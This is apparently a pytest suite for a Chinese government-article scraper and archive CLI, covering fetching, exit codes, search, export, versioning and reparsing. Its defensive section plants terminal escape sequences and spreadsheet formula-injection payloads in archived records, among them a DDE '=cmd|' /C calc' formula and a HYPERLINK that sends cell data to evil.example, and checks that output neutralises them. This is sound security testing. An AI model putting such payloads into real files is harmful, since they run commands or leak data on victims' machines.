"""The command line end to end: fetch/parse/show through typer's runner, exit codes, sqlite3."""

from __future__ import annotations

import json
import shutil
import sqlite3
import subprocess
import sys
import threading
from collections import Counter
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from scraper.archive import Archive
from scraper.cli import EXIT_ARCHIVE, EXIT_BLOCKED, EXIT_FAILED, EXIT_USAGE, app
from scraper.models import Article, FetchAttempt, Page

from .conftest import SAMPLES, SampleServer

SEED = SAMPLES / "seed-utf8.html"
EXPECTED = json.loads((SAMPLES / "expected" / "seed-utf8.json").read_text(encoding="utf-8"))


def run(*args: str, env: dict[str, str] | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(app, list(args), env=env)
    if result.exception and not isinstance(result.exception, SystemExit):
        raise result.exception
    return result.exit_code, result.stdout, result.stderr


def rows(db: Path, sql: str) -> list[tuple[object, ...]]:
    with sqlite3.connect(db) as conn:
        return conn.execute(sql).fetchall()


def test_fetch_twice_over_http_is_one_article_and_two_fetches(
    server: SampleServer, tmp_path: Path
) -> None:
    db = tmp_path / "archive.db"
    url = server.url("seed-utf8.html")
    code1, out1, _ = run("fetch", url, "--db", str(db))
    code2, out2, _ = run("fetch", url, "--db", str(db))
    assert (code1, code2) == (0, 0)
    assert out1.split("\t")[1] == "new" and out2.split("\t")[1] == "unchanged"
    assert rows(db, "select count(*) from articles") == [(1,)]
    assert rows(db, "select count(*) from fetches") == [(2,)]
    assert rows(db, "select count(*) from raw_pages") == [(1,)]
    assert rows(db, "select title, source from articles") == [
        (EXPECTED["title"], EXPECTED["source"])
    ]
    # the exchange as on the wire, for web-archive export
    (headers, sent, version), *_ = rows(
        db, "select headers, request_headers, http_version from fetches"
    )
    assert ["Content-Type", "text/html"] in json.loads(str(headers))
    assert any(k.lower() == "user-agent" for k, _ in json.loads(str(sent)))
    assert version == "HTTP/1.1"


def test_fetch_line_shows_id_status_published_source_title(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    code, out, _ = run("fetch", str(SEED), "--db", str(db))
    assert code == 0
    ident, status, published, source, title = out.strip().split("\t")
    assert status == "new"
    assert (published, source, title) == (
        EXPECTED["published"],
        EXPECTED["source"],
        EXPECTED["title"],
    )
    assert rows(db, "select id from articles") == [(int(ident),)]


def test_fetch_json_prints_the_stored_record(tmp_path: Path) -> None:
    code, out, _ = run("fetch", str(SEED), "--db", str(tmp_path / "a.db"), "--json")
    assert code == 0
    record = json.loads(out)
    assert record["status"] == "new" and record["title"] == EXPECTED["title"]
    assert record["original_url"] == EXPECTED["original_url"]
    assert isinstance(record["id"], int) and record["content_hash"]


def test_saved_page_with_url_option_is_stored_under_that_url(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    where = "https://www.example.gov.cn/art/2022/6/24/art_1_20233.html"
    code, _, _ = run("fetch", str(SEED), "--url", where, "--db", str(db))
    assert code == 0
    assert rows(db, "select url, site from articles") == [(where, "www.example.gov.cn")]


def test_db_path_comes_from_the_environment(tmp_path: Path) -> None:
    db = tmp_path / "env.db"
    code, _, _ = run("fetch", str(SEED), env={"ARCHIVER_DB": str(db)})
    assert code == 0 and db.exists()


def test_one_bad_input_does_not_stop_the_others(server: SampleServer, tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    code, out, err = run(
        "fetch", server.url("missing"), str(SEED), "/no/such/page.html", "--db", str(db)
    )
    assert code == EXIT_FAILED  # the first failure's code
    assert len(out.strip().splitlines()) == 1
    errors = err.strip().splitlines()
    assert len(errors) == 2 and "HTTP 404" in errors[0] and "no such file" in errors[1]
    assert rows(db, "select count(*) from articles") == [(1,)]
    assert rows(db, "select status, error from fetches where error is not null") == [
        (404, "HTTP 404")
    ]


class _Refusing(BaseHTTPRequestHandler):
    """/forbidden: 403 every time; /busy: 429 (Retry-After: 0) every time; else the seed."""

    server: _RefusingServer
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:
        pass

    def do_GET(self) -> None:
        self.server.hits[self.path] += 1
        status, body, extra = 200, SEED.read_bytes(), {}
        if self.path == "/forbidden":
            status, body = 403, b"<html><body>forbidden</body></html>"
        elif self.path == "/busy":
            status, body, extra = 429, b"slow down", {"Retry-After": "0"}
        self.send_response(status)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        for key, value in extra.items():
            self.send_header(key, value)
        self.end_headers()
        self.wfile.write(body)


class _RefusingServer(ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Refusing)
        self.hits: Counter[str] = Counter()

    def url(self, path: str) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}{path}"

    def handle_error(self, request: object, client_address: object) -> None:
        """Quiet: the fetcher hangs up on a 403 without reading its body, and the server's
        traceback for that would land in the stderr the test reads (CliRunner captures it)."""


@pytest.fixture
def refusing() -> Iterator[_RefusingServer]:
    srv = _RefusingServer()
    thread = threading.Thread(target=srv.serve_forever, daemon=True)
    thread.start()
    yield srv
    srv.shutdown()
    srv.server_close()


def test_a_site_that_refuses_us_is_exit_6(refusing: _RefusingServer, tmp_path: Path) -> None:
    """README, exit codes: 6, the site refused us (403, or 429 after retries)."""
    db = tmp_path / "a.db"
    code, out, err = run("fetch", refusing.url("/forbidden"), "--db", str(db))
    assert (code, out) == (EXIT_BLOCKED, "") and code == 6
    assert err.startswith("error:") and "HTTP 403" in err
    assert refusing.hits["/forbidden"] == 1  # a 403 is not retried
    code, out, err = run("fetch", refusing.url("/busy"), "--db", str(db), "--retries", "2")
    assert (code, out) == (EXIT_BLOCKED, "")
    assert "HTTP 429" in err and "after 3 attempts" in err
    assert refusing.hits["/busy"] == 3
    assert rows(db, "select status, error from fetches order by id") == [
        (403, "HTTP 403"),
        *[(429, "HTTP 429")] * 3,
    ]
    assert rows(db, "select count(*) from articles") == [(0,)]
    # in a batch the first failure's code is the exit code, the others still archived...
    code, out, err = run("fetch", refusing.url("/forbidden"), refusing.url("/ok"), "--db", str(db))
    assert code == EXIT_BLOCKED and len(out.strip().splitlines()) == 1
    # ...and the installed entry point maps it the same way
    proc = subprocess.run(
        [sys.executable, "-m", "scraper", "fetch", refusing.url("/forbidden"), "--db", str(db)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == EXIT_BLOCKED, proc.stderr
    assert proc.stderr.startswith("error:") and "HTTP 403" in proc.stderr


def test_list_page_is_not_stored_as_an_article(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    code, out, err = run("fetch", str(SAMPLES / "list" / "index.html"), "--db", str(db))
    assert code == EXIT_FAILED and out == ""
    assert "not an article" in err
    assert rows(db, "select count(*) from articles") == [(0,)]
    assert rows(db, "select count(*) from raw_pages") == [(1,)]


def test_missing_file_alone_is_a_usage_error(tmp_path: Path) -> None:
    code, out, err = run("fetch", "/no/such/page.html", "--db", str(tmp_path / "a.db"))
    assert code == EXIT_USAGE and out == ""
    assert err.strip().count("\n") == 0 and "no such file" in err


def test_url_option_needs_exactly_one_local_page() -> None:
    code, _, err = run("parse", str(SEED), str(SEED), "--url", "http://a.test/")
    assert code == EXIT_USAGE and "--url" in err


def test_a_malformed_url_is_a_usage_error_and_the_batch_goes_on(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    code, out, err = run("fetch", "http://[unfilled]/a.html", str(SEED), "--db", str(db))
    assert code == EXIT_USAGE and out.count("\n") == 1  # the saved page's line
    assert err.count("\n") == 1 and "not a valid URL" in err
    assert rows(db, "select count(*) from articles") == [(1,)]


def test_url_option_must_be_a_web_address(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    for bad in ("notaurl", "www.example.gov.cn/a.html", "ftp://a.test/x", "http:///x"):
        code, out, err = run("fetch", str(SEED), "--url", bad, "--db", str(db))
        assert code == EXIT_USAGE and out == ""
        assert err.count("\n") == 1 and "--url wants the page's web address" in err
    assert not db.exists() or rows(db, "select count(*) from articles") == [(0,)]


def test_parse_json_prints_one_object_per_input_in_order(tmp_path: Path) -> None:
    missing = str(tmp_path / "missing.html")
    code, out, _ = run("parse", str(SEED), missing, str(SEED), "--json")
    lines = [json.loads(line) for line in out.strip().splitlines()]
    assert code == EXIT_USAGE
    assert len(lines) == 3
    assert lines[0]["title"] == lines[2]["title"] == EXPECTED["title"]
    assert lines[1]["input"] == missing and "no such file" in lines[1]["error"]
    assert set(lines[0]) >= {"url", "canonical_url", "body", "disclaimer", "footer", "is_article"}


def test_parse_stores_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    code, out, _ = run("parse", str(SEED))
    assert code == 0 and EXPECTED["title"] in out
    assert not (tmp_path / "archive.db").exists()


def test_show_prints_a_stored_record_by_id_and_by_url(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    _, out, _ = run("fetch", str(SEED), "--db", str(db), "--url", "http://samples.test/seed.html")
    ident = out.split("\t")[0]
    code, by_id, _ = run("show", ident, "--db", str(db))
    assert code == 0 and EXPECTED["title"] in by_id and "[body]" in by_id
    code, by_url, _ = run("show", "http://samples.test/seed.html", "--db", str(db))
    assert code == 0 and by_url == by_id


def test_show_unknown_record_and_missing_archive(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    code, _, err = run("show", "1", "--db", str(db))
    assert code == EXIT_ARCHIVE and "no archive" in err
    run("fetch", str(SEED), "--db", str(db))
    code, _, err = run("show", "12345", "--db", str(db))
    assert code == EXIT_USAGE and "no article" in err


def test_console_script_reports_errors_in_one_line(tmp_path: Path) -> None:
    """The installed entry point (not the test runner) maps errors to exit codes too."""
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "scraper",
            "fetch",
            "/no/such/file.html",
            "--db",
            str(tmp_path / "a.db"),
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == EXIT_USAGE
    assert proc.stderr.strip().count("\n") == 0 and proc.stderr.startswith("error:")


@pytest.mark.skipif(shutil.which("sqlite3") is None, reason="the sqlite3 tool is not installed")
def test_sqlite3_tool_reads_the_archive_the_cli_wrote(tmp_path: Path) -> None:
    db = tmp_path / "archive.db"
    assert run("fetch", str(SEED), "--db", str(db))[0] == 0
    out = subprocess.run(
        [
            "sqlite3",
            "-json",
            str(db),
            "select title, published, source, original_url from articles",
        ],
        capture_output=True,
        text=True,
        check=True,
    ).stdout
    assert json.loads(out) == [
        {
            "title": EXPECTED["title"],
            "published": EXPECTED["published"],
            "source": EXPECTED["source"],
            "original_url": EXPECTED["original_url"],
        }
    ]


# ------------------------------------------------------------------ reading the archive back


def _archive_with_samples(tmp_path: Path) -> Path:
    db = tmp_path / "a.db"
    pages = ["seed-utf8.html", "seed-gbk-nodecl.html", "table-meta.html", "portal-dateline.html"]
    code, _, err = run("fetch", *(str(SAMPLES / p) for p in pages), "--db", str(db))
    assert code == 0, err
    return db


def test_same_article_on_two_urls_is_one_work(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)
    # seed-utf8 and seed-gbk-nodecl are one article saved under two file URLs
    assert rows(db, "select count(*) from articles") == [(4,)]
    assert rows(db, "select count(*) from works") == [(3,)]
    assert rows(db, "select max(copies) from works") == [(2,)]


def test_search_prints_ranked_hits_with_marked_snippets(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)
    code, out, _ = run("search", "生态环境", "--db", str(db))
    assert code == 0
    first = out.splitlines()[0].split("\t")
    assert (
        first[3]
        == json.loads((SAMPLES / "expected" / "table-meta.json").read_text(encoding="utf-8"))[
            "title"
        ]
    )
    assert "【生态环境】" in out.splitlines()[1]
    code, out, _ = run("search", "党", "--db", str(db), "--json", "--since", "2030-01-01")
    assert code == 0 and out == ""


def test_a_search_with_nothing_to_look_for_is_a_usage_error(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)
    for query in ("", "，。", " "):
        code, out, err = run("search", query, "--db", str(db))
        assert code == 2 and out == ""
        assert err.startswith("error: nothing to search for") and err.count("\n") == 1


def test_an_id_or_url_no_article_can_have_is_not_found(tmp_path: Path) -> None:
    """Past SQLite's integers, no well-formed URL, or a digit that is no number ("²"): these
    raised unexpected errors."""
    db = _archive_with_samples(tmp_path)
    for command in ("show", "history", "reparse"):
        for key in ("99999999999999999999999", "http://[unfilled]/a.html", "²"):
            code, out, err = run(command, key, "--db", str(db))
            assert code == EXIT_USAGE and out == ""
            assert err == f"error: no article {key!r} in {db}\n"
    code, out, _ = run("search", "生态环境", "--db", str(db), "--limit", "9" * 25)
    assert code == 0 and out


def test_export_jsonl_and_csv(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)
    code, out, _ = run("export", "--db", str(db))
    records = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and len(records) == 4 and "signature" not in records[0]
    code, out, _ = run("export", "--db", str(db), "--format", "csv")
    assert code == 0 and len(out.strip().splitlines()) > 4 and out.startswith("id,")
    code, _, err = run("export", "--db", str(db), "--format", "xml")
    assert code == EXIT_USAGE and "xml" in err


def test_reparse_updates_records_and_keeps_versions(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)
    code, _, err = run("reparse", "--db", str(db))
    assert code == 0 and "updated 0, unchanged 4" in err
    # A record stored by an older parser (simulated by editing it) is re-extracted.
    with sqlite3.connect(db) as conn:
        conn.execute("update articles set title = 'old title' where title = ?", [EXPECTED["title"]])
    code, _, err = run("reparse", "--db", str(db))
    assert code == 0 and "updated 2" in err
    assert rows(db, "select count(*) from versions where title = 'old title'") == [(2,)]
    assert rows(db, "select count(*) from articles where title = 'old title'") == [(0,)]


def test_history_lists_versions_and_shows_a_diff(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    page = tmp_path / "page.html"
    original = SEED.read_text(encoding="utf-8")
    page.write_text(original, encoding="utf-8")
    where = "https://www.example.gov.cn/a.html"
    run("fetch", str(page), "--url", where, "--db", str(db))
    page.write_text(original.replace("坚实保障", "有力保障"), encoding="utf-8")
    code, out, _ = run("fetch", str(page), "--url", where, "--db", str(db))
    assert out.split("\t")[1] == "updated"
    code, out, _ = run("history", where, "--db", str(db))
    assert code == 0
    assert "(2 version(s))" in out and "(current)" in out
    assert any(line.startswith("-") and "坚实保障" in line for line in out.splitlines())
    assert any(line.startswith("+") and "有力保障" in line for line in out.splitlines())


def test_stats_reports_the_archive_figures(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)
    code, out, _ = run("stats", "--db", str(db), "--json")
    figures = json.loads(out)
    assert code == 0
    assert (figures["articles"], figures["works"], figures["fetches"]) == (4, 3, 4)


# ----------------------------------------------------------- never lose an article (issue 16)

SHORT = ("holiday", "appoint", "photo", "water")


def _expected(rel: str) -> dict[str, object]:
    return dict(json.loads((SAMPLES / "expected" / f"{rel}.json").read_text(encoding="utf-8")))


def test_short_real_articles_are_stored_by_fetch(server: SampleServer, tmp_path: Path) -> None:
    """A two-line 任免 notice, a one-caption picture, a three-line 停水 notice and a short 放假
    notice, in templates whose navigation outweighs their text, are articles and are kept."""
    db = tmp_path / "a.db"
    urls = [server.url(f"short/{name}.html") for name in SHORT]
    code, out, err = run("fetch", *urls, "--db", str(db))
    assert (code, err) == (0, "")
    assert len(out.splitlines()) == 4
    got = {
        url: (title, published, source, body, is_article, doubt)
        for url, title, published, source, body, is_article, doubt in rows(
            db, "select url, title, published, source, body, is_article, doubt from articles"
        )
    }
    for name, url in zip(SHORT, urls, strict=True):
        want = _expected(f"short/{name}")
        title, published, source, body, is_article, doubt = got[url]
        assert (title, published, source) == (want["title"], want["published"], want["source"])
        assert body == want["body"] and is_article == 1 and doubt == want["doubt"]
    # the doubtful ones are the short ones, and a user finds them with one query
    assert rows(db, "select count(*) from articles where doubt like 'short text%'") == [(2,)]


@pytest.mark.parametrize(
    ("name", "reason"),
    [("home", "a list or index page"), ("search", "linked entries among the text")],
)
def test_home_and_search_pages_are_not_stored_as_articles(
    server: SampleServer, tmp_path: Path, name: str, reason: str
) -> None:
    db = tmp_path / "a.db"
    code, out, err = run("fetch", server.url(f"negative/{name}.html"), "--db", str(db))
    assert code == EXIT_FAILED and out == ""
    assert len(err.splitlines()) == 1 and reason in err
    assert rows(db, "select count(*) from articles") == [(0,)]
    assert rows(db, "select count(*) from raw_pages") == [(1,)]  # kept, for reparse


def test_a_rejection_names_its_true_reason(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    blank = tmp_path / "blank.html"
    blank.write_text("<html><head><title></title></head><body>\n</body></html>", "utf-8")
    junk = tmp_path / "junk.html"
    junk.write_bytes(b"<html><body>" + bytes(range(256)) * 40)  # served as HTML, yet binary
    code, out, err = run("fetch", str(blank), str(junk), "--db", str(db))
    assert code == EXIT_FAILED and out == ""
    first, second = err.splitlines()
    assert "blank page" in first and "list" not in first
    assert "binary" in second and "list" not in second


def test_reparse_stores_pages_an_older_parser_rejected(tmp_path: Path) -> None:
    """Pages once kept only as raw bytes are reconsidered by reparse, and stored once."""
    from scraper.archive import Archive
    from scraper.models import FetchAttempt, Page

    db = tmp_path / "a.db"
    url = "http://samples.test/short/appoint.html"
    data = (SAMPLES / "short" / "appoint.html").read_bytes()
    with Archive.open(db) as archive:  # what the parser before this one did with the page
        attempt = FetchAttempt(url=url, time="2026-12-01T00:00:00Z", status=200, final_url=url)
        page = Page(url, url, 200, data, data.decode(), "utf-8", attempts=(attempt,))
        archive.record_page(page)
    assert rows(db, "select count(*) from articles") == [(0,)]
    code, out, err = run("reparse", "--db", str(db))
    assert code == 0 and "pages not taken as articles 1, now stored 1" in err
    assert out.split("\t")[1] == "new"
    assert rows(db, "select url, title, doubt from articles") == [
        (url, _expected("short/appoint")["title"], "short text (41 characters)")
    ]
    assert rows(db, "select count(*) from fetches where article_id is null") == [(0,)]
    code, out, err = run("reparse", "--db", str(db))
    assert code == 0 and out == "" and "pages not taken as articles 0" in err


# ------------------------------------------------- page text that a terminal would obey (issue 10)

HOSTILE = "标题\x1b]0;pwned\x07\x1b[2J\u202egnp.exe\x9b31m"


def _hostile_archive(tmp_path: Path) -> tuple[Path, int]:
    """An archived record whose title, body and URL carry terminal escapes, as published."""
    db = tmp_path / "a.db"
    code, out, _ = run("fetch", str(SEED), "--db", str(db))
    assert code == 0
    ident = int(out.split("\t")[0])
    with sqlite3.connect(db) as conn:
        conn.execute(
            "UPDATE articles SET title = ?, body = body || ?, source = ? WHERE id = ?",
            [HOSTILE, "\n第二行\x1b[31m红\x1b[0m\t\u2066隔\u2069", "=cmd|' /C calc'!A0", ident],
        )
        conn.execute("UPDATE fetches SET final_url = ? WHERE article_id = ?", [HOSTILE, ident])
    return db, ident


def _no_controls(text: str) -> None:
    for char in ("\x1b", "\x07", "\x9b", "\u202e", "\u2066", "\u2069"):
        assert char not in text, repr(text)


def test_page_text_reaches_the_terminal_as_visible_escapes(tmp_path: Path) -> None:
    db, ident = _hostile_archive(tmp_path)
    code, out, _ = run("show", str(ident), "--db", str(db))
    assert code == 0
    _no_controls(out)
    assert "\\x1b]0;pwned\\x07" in out and "\\u202egnp.exe\\x9b31m" in out
    assert "第二行\\x1b[31m红\\x1b[0m\t\\u2066隔\\u2069" in out  # the body keeps its lines and tabs
    for args in (["search", str(EXPECTED["title"])[:2]], ["history", str(ident)]):
        code, out, _ = run(*args, "--db", str(db))
        assert code == 0 and "\\x1b" in out
        _no_controls(out)
    # JSON stays exact: the record as published
    code, out, _ = run("show", str(ident), "--db", str(db), "--json")
    assert code == 0 and json.loads(out)["title"] == HOSTILE
    # fetch's own line, and an error line naming a file
    code, out, err = run("fetch", str(tmp_path / "missing\x1b[31m.html"), "--db", str(db))
    assert code == EXIT_USAGE and "missing\\x1b[31m.html" in err
    _no_controls(err)


def test_csv_export_keeps_formulas_from_running_in_a_spreadsheet(tmp_path: Path) -> None:
    import csv
    import io

    db, ident = _hostile_archive(tmp_path)
    with sqlite3.connect(db) as conn:
        conn.execute(
            "UPDATE articles SET author = ?, editor = ?, site_name = ? WHERE id = ?",
            ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "@SUM(1+1)", "+1-2", ident],
        )
    code, out, _ = run("export", "--db", str(db), "--format", "csv")
    assert code == 0
    (record,) = csv.DictReader(io.StringIO(out))
    assert record["author"] == '\'=HYPERLINK("http://evil.example/?"&A1,"点击")'
    assert record["editor"] == "'@SUM(1+1)" and record["site_name"] == "'+1-2"
    assert record["source"] == "'=cmd|' /C calc'!A0"
    assert record["published"] == EXPECTED["published"] and record["title"] == HOSTILE
    code, out, _ = run("export", "--db", str(db))  # JSON Lines: exactly as stored
    assert code == 0 and json.loads(out)["source"] == "=cmd|' /C calc'!A0"


# ------------------------------------------------------------- a new user's first week


def _big_page(tmp_path: Path, paragraphs: int = 2000) -> Path:
    """The seed with a body far larger than a pipe's buffer (64 KiB)."""
    text = SEED.read_text(encoding="utf-8")
    filler = "".join(
        f"<p>　　第{n}段：机关党建工作扎实推进，各项任务全面完成，成效显著。</p>\n"
        for n in range(paragraphs)
    )
    page = tmp_path / "big.html"
    page.write_text(
        text.replace(
            '<div class="content" id="Article">', '<div class="content" id="Article">' + filler, 1
        ),
        encoding="utf-8",
    )
    return page


def _cli(*args: str, **kw: object) -> subprocess.Popen[bytes]:
    return subprocess.Popen([sys.executable, "-m", "scraper", *args], **kw)  # type: ignore[call-overload,no-any-return]


@pytest.mark.parametrize("command", [["export"], ["export", "--format", "csv"], ["show", "1"]])
def test_a_reader_that_stops_early_ends_the_command_quietly(
    tmp_path: Path, command: list[str]
) -> None:
    """`archiver export | head`: the closed pipe ends the command, exit 0, nothing on stderr."""
    db = tmp_path / "a.db"
    code, out, err = run("fetch", str(_big_page(tmp_path)), "--db", str(db))
    assert code == 0, err
    if command[0] == "show":
        command = ["show", out.split("\t")[0]]
    proc = _cli(*command, "--db", str(db), stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    assert proc.stdout is not None and proc.stderr is not None
    assert proc.stdout.read(10)  # the reader takes its first bytes and goes away
    proc.stdout.close()
    err_bytes = proc.stderr.read()
    assert proc.wait(timeout=60) == 0
    assert err_bytes == b""


def test_an_archive_in_a_missing_directory_is_refused_unless_asked_for(tmp_path: Path) -> None:
    db = tmp_path / "no" / "such" / "dir" / "archive.db"
    for command in (["fetch", str(SEED)], ["import", str(SEED)]):
        code, out, err = run(*command, "--db", str(db))
        assert (code, out) == (EXIT_USAGE, "")
        assert err.count("\n") == 1 and f"directory {db.parent} does not exist" in err
        assert "--create-dirs" in err
    assert not (tmp_path / "no").exists()
    code, _, err = run("fetch", str(SEED), "--db", str(db), "--create-dirs")
    assert code == 0 and db.exists(), err
    code, out, _ = run("fetch", str(SEED), "--db", str(db))  # an existing archive: unchanged
    assert code == 0 and out.split("\t")[1] == "unchanged"
    env_db = tmp_path / "elsewhere" / "a.db"
    code, _, err = run("fetch", str(SEED), env={"ARCHIVER_DB": str(env_db)})
    assert code == EXIT_USAGE and str(env_db.parent) in err


def test_help_names_values_not_python_types() -> None:
    from scraper.cli import COMMANDS

    wide = {"COLUMNS": "200"}
    for name in ["", *(n for n, _ in COMMANDS)]:
        code, out, _ = run(*([name] if name else []), "--help", env=wide)
        assert code == 0, name
        for bad in ("<bool>", "<list[str]>", "[[", "...]...", "...}..."):
            assert bad not in out, (name, bad)
    _, out, _ = run("crawl", "--help", env=wide)
    assert "[SITE]..." in out
    _, out, _ = run("export", "--help", env=wide)
    assert "--since" in out and "YYYY-MM-DD" in out
    _, out, _ = run("search", "--help", env=wide)
    assert "at most this many hits" in out
    _, out, _ = run("--help", env=wide)
    assert "--install-completion" in out and "--show-completion" in out


def test_sites_prints_a_revisit_period_as_configured(tmp_path: Path) -> None:
    config = tmp_path / "sites.toml"
    config.write_text(
        "[sites.weekly]\nstart_urls = ['https://a.example.gov.cn/']\nrevisit_after = '7d'\n"
        "[sites.daily]\nstart_urls = ['https://b.example.gov.cn/']\nrevisit_after = '36h'\n"
        "[sites.often]\nstart_urls = ['https://c.example.gov.cn/']\nrevisit_after = 5400\n",
        encoding="utf-8",
    )
    code, out, err = run("sites", "--config", str(config))
    assert code == 0, err
    revisits = [line.split("\t")[3] for line in out.splitlines()]
    assert revisits == ["revisit 7d", "revisit 36h", "revisit 90m"]


def test_csv_for_excel_begins_with_a_byte_order_mark(tmp_path: Path) -> None:
    db = _archive_with_samples(tmp_path)
    code, out, _ = run("export", "--db", str(db), "--format", "csv", "--bom")
    assert code == 0 and out.startswith("\ufeffid,") and out.count("\ufeff") == 1
    code, out, _ = run("export", "--db", str(db), "--format", "csv")
    assert code == 0 and out.startswith("id,")
    target = tmp_path / "articles.csv"
    code, _, _ = run("export", "--db", str(db), "--format", "csv", "--bom", "-o", str(target))
    assert code == 0 and target.read_bytes().startswith(b"\xef\xbb\xbfid,")
    assert EXPECTED["title"] in target.read_text(encoding="utf-8-sig")
    code, _, err = run("export", "--db", str(db), "--bom")
    assert code == EXIT_USAGE and "--bom" in err


def test_an_address_typed_without_its_scheme_gets_a_suggestion(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    typed = "www.gov.cn/zhengce/content/2022-06/24/content_1.htm"
    code, out, err = run("fetch", typed, "--db", str(db))
    assert (code, out) == (EXIT_USAGE, "")
    assert err == f"error: {typed}: no such file; did you mean https://{typed}?\n"
    code, _, err = run("fetch", str(tmp_path / "page.html"), "--db", str(db))
    assert code == EXIT_USAGE and "no such file" in err and "did you mean" not in err
    code, _, err = run("parse", "gov.cn:8080/a.html")  # a port: not taken for a path
    assert code == EXIT_USAGE and "did you mean" not in err


def _saved_page(tmp_path: Path, first_line: str) -> Path:
    """The seed as a browser saves it, its 原文链接 relative to the site it came from."""
    import re

    text = re.sub(
        r'原文链接:<a href="[^"]*"[^>]*>[^<]*</a>',
        '原文链接:<a href="/index.php?m=content&amp;id=20233">点击查看</a>',
        SEED.read_text(encoding="utf-8"),
    )
    page = tmp_path / "saved.html"
    page.write_text(first_line + "\n" + text, encoding="utf-8")
    return page


def test_a_saved_page_is_stored_under_the_address_it_records(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    where = "https://qfzj.example.org.cn/index.php?m=content&c=index&a=show&catid=35&id=20233"
    page = _saved_page(tmp_path, f"<!-- saved from url=({len(where):04d}){where} -->")
    code, _, err = run("fetch", str(page), "--db", str(db))
    assert code == 0, err
    ((url, site, original),) = rows(db, "select url, site, original_url from articles")
    assert (url, site) == (where, "qfzj.example.org.cn")
    assert str(original).startswith("https://qfzj.example.org.cn/index.php?m=content")
    # a page that records nothing keeps its file:// URL
    plain = tmp_path / "plain.html"
    plain.write_text(SEED.read_text(encoding="utf-8"), encoding="utf-8")
    code, _, _ = run("fetch", str(plain), "--db", str(db))
    assert code == 0
    assert rows(db, "select url from articles where url like 'file:%'") == [(plain.as_uri(),)]


def test_pairs_file_fetches_each_saved_page_with_its_address(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    pages = tmp_path / "pages"
    pages.mkdir()
    shutil.copy(SEED, pages / "seed.html")
    shutil.copy(SAMPLES / "table-meta.html", pages / "table.html")
    listing = pages / "pairs.csv"
    listing.write_text(
        "path,url\n"
        "seed.html,https://www.example.gov.cn/art/1.html\n"
        "missing.html,https://www.example.gov.cn/art/2.html\n"
        "table.html,not a url\n"
        f"{pages / 'table.html'},https://www.example.gov.cn/art/3.html\n",
        encoding="utf-8",
    )
    code, out, err = run("fetch", "--pairs", str(listing), "--db", str(db))
    assert code == EXIT_USAGE  # the first failure's code; the rest archived
    assert len(out.splitlines()) == 2
    errors = err.splitlines()
    assert len(errors) == 2 and all(e.startswith("error: ") for e in errors)
    assert "missing.html: no such file" in errors[0]
    assert "line 4" in errors[1] and "not a web address" in errors[1]
    assert rows(db, "select url from articles order by url") == [
        ("https://www.example.gov.cn/art/1.html",),
        ("https://www.example.gov.cn/art/3.html",),
    ]
    code, _, err = run("fetch", "--pairs", str(tmp_path / "none.csv"), "--db", str(db))
    assert code == EXIT_USAGE and "none.csv" in err
    code, _, err = run("fetch", "--db", str(db))
    assert code == EXIT_USAGE and "nothing to fetch" in err


def test_show_finds_what_fetch_stored_for_a_path(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    db = tmp_path / "a.db"
    code, out, _ = run("fetch", str(SEED), "--db", str(db))
    ident = out.split("\t")[0]
    code, by_path, err = run("show", str(SEED), "--db", str(db))
    assert code == 0 and EXPECTED["title"] in by_path, err
    monkeypatch.chdir(SAMPLES.parent)
    assert run("show", f"{SAMPLES.name}/{SEED.name}", "--db", str(db))[1] == by_path
    assert run("show", SEED.as_uri(), "--db", str(db))[1] == by_path
    assert run("history", str(SEED), "--db", str(db))[0] == 0
    # stored under --url: found by its bytes
    other = tmp_path / "copy.html"
    other.write_bytes((SAMPLES / "table-meta.html").read_bytes())
    where = "https://www.example.gov.cn/t.html"
    run("fetch", str(other), "--url", where, "--db", str(db))
    code, out, _ = run("show", str(other), "--db", str(db), "--json")
    assert code == 0 and json.loads(out)["url"] == where
    # --json carries the fetch history that the text prints
    code, out, _ = run("show", ident, "--db", str(db), "--json")
    record = json.loads(out)
    assert code == 0 and len(record["fetches"]) == 1
    (attempt,) = record["fetches"]
    assert attempt["url"] == SEED.resolve().as_uri() and attempt["article_id"] == int(ident)
    assert attempt["time"] in run("show", ident, "--db", str(db))[1]


def test_history_marks_a_changed_character_inline(tmp_path: Path) -> None:
    db = tmp_path / "a.db"
    page = tmp_path / "page.html"
    original = SEED.read_text(encoding="utf-8")
    page.write_text(original, encoding="utf-8")
    where = "https://www.example.gov.cn/a.html"
    run("fetch", str(page), "--url", where, "--db", str(db))
    page.write_text(original.replace("坚实保障", "有力保障"), encoding="utf-8")
    run("fetch", str(page), "--url", where, "--db", str(db))
